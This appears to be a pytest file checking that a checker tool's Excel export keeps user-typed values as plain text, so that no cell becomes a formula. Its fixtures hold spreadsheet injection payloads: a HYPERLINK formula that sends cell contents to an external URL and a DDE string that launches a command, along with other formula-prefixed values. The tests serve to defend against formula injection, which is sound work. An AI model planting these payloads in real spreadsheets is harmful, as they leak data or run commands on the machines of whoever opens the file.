"""Whatever a unit types stays text in the Excel export: no cell of ours becomes a formula."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from assistant.checker.export import CheckedFile, to_xlsx
from assistant.model import Evaluation, FileInfo, Finding, Location, Submission

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def _export() -> bytes:
    sub = Submission(id="s1", kind="table", unit=DDE, file=FileInfo(name="+1-form.xlsx"),
                     evaluations=[Evaluation(project_name=HYPERLINK)])
    finding = Finding(rule="MISSING-IND-001", severity="error", message="实际完成值为空",
                      location=Location(field="evaluations[0].indicators[0].actual"),
                      evidence="@SUM(1+1)", suggestion="-2+3")
    return to_xlsx([CheckedFile(source="+1-form.xlsx", submission=sub, findings=[finding])])


def test_no_formula_reaches_the_workbook():
    data = _export()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_the_text_is_kept_as_typed():
    wb = load_workbook(io.BytesIO(_export()))
    findings = [c.value for c in wb["审核发现"][2]]
    assert HYPERLINK in findings and "@SUM(1+1)" in findings and "-2+3" in findings
    summary = [c.value for c in wb["汇总"][2]]
    assert DDE in summary and "+1-form.xlsx" in summary
    assert all(c.data_type != "f" for sheet in wb for row in sheet.iter_rows() for c in row)
